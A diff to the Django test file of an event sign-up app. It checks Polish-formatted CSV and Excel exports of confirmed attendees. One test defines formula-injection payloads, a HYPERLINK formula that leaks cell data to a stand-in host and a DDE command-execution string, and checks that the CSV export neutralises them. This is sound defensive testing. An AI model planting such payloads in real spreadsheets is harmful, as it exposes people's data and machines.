@@ -9,6 +9,7 @@ import pytest
 from django.core.cache import cache
 from django.test import Client
 from django.urls import reverse
+from django.utils import timezone
 
 from registrations.models import Registration
 from tests.factories import member_of
@@ -38,16 +39,28 @@ def test_organisers_filter_the_sign_ups_of_an_event_and_export_them(client, djan
     confirmed = client.get(index, {"event": training().pk, "status": "confirmed"}).content.decode()
     assert "Zofia Wójcik" in confirmed and "Per Hansen" in confirmed and "Ola Niepotwierdzona" not in confirmed
 
+    assert "Pobierz listę (Excel)" in confirmed and "Pobierz listę (CSV)" in confirmed  # buttons in sight
+    per = Registration.objects.get(email="per@example.org")
+    signed_up_in_warsaw = timezone.localtime(per.signed_up_at).replace(tzinfo=None, second=0, microsecond=0)
+
+    # For Polish Excel: UTF-8 with a byte order mark, semicolons, words, times in Warsaw to the minute.
     export = client.get(index, {"event": training().pk, "status": "confirmed", "export": "csv"})
-    heading, *rows = csv.reader(io.StringIO(b"".join(export.streaming_content).decode()))
+    content = b"".join(export.streaming_content).decode()
+    assert content.startswith("\ufeff")
+    heading, *rows = csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";")
     assert len(heading) == 13
-    assert sorted(row[2] for row in rows) == ["Per Hansen", "Zofia Wójcik"]
+    by_name = {row[2]: row for row in rows}
+    assert sorted(by_name) == ["Per Hansen", "Zofia Wójcik"]
+    assert (by_name["Per Hansen"][1], by_name["Per Hansen"][9]) == ("miejsce potwierdzone", "norweski (bokmål)")
+    assert by_name["Zofia Wójcik"][9] == "polski"
+    assert by_name["Per Hansen"][10] == f"{signed_up_in_warsaw:%Y-%m-%d %H:%M}"
 
     export = client.get(index, {"event": training().pk, "status": "confirmed", "export": "xlsx"})
     sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
-    names = sorted(row[2] for row in sheet.iter_rows(min_row=2, values_only=True))
-    assert names == ["Per Hansen", "Zofia Wójcik"]
-    assert "Urząd Miasta Gdańska" in [cell.value for cell in sheet[2]] + [cell.value for cell in sheet[3]]
+    by_name = {row[2]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert sorted(by_name) == ["Per Hansen", "Zofia Wójcik"]
+    assert by_name["Zofia Wójcik"][4] == "Urząd Miasta Gdańska"
+    assert by_name["Per Hansen"][1] == "miejsce potwierdzone" and by_name["Per Hansen"][10] == signed_up_in_warsaw
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&D2&";"&E2,"Kliknij")', "@SUM(1+1)*cmd|' /C calc'!A0"]
@@ -61,7 +74,8 @@ def test_a_name_written_as_a_formula_reaches_the_csv_as_text_and_the_xlsx_unchan
     index = reverse("sign_ups:index")
 
     export = client.get(index, {"export": "csv"})
-    _heading, *rows = csv.reader(io.StringIO(b"".join(export.streaming_content).decode()))
+    content = b"".join(export.streaming_content).decode().removeprefix("\ufeff")
+    _heading, *rows = csv.reader(io.StringIO(content), delimiter=";")
     cells = {cell for row in rows for cell in row[2:5]}
     assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "'+48 Kowalski", "'-1+1"} <= cells
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
@@ -84,6 +98,7 @@ def test_the_attendance_list_holds_the_confirmed_in_alphabetical_order(client, d
     zofia = Registration.objects.get(email="zofia@example.org")
     inspected = client.get(reverse("sign_ups:inspect", args=[zofia.pk])).content.decode()
     assert "Urząd Miasta Gdańska" in inspected and zofia.consent_version.sha256[:12] in inspected
+    assert "Treść zgody – język: polski, pierwsza zgoda" in inspected  # named, the digest a detail
 
 
 def test_an_administrator_sees_the_sign_ups(admin_client, sign_ups):
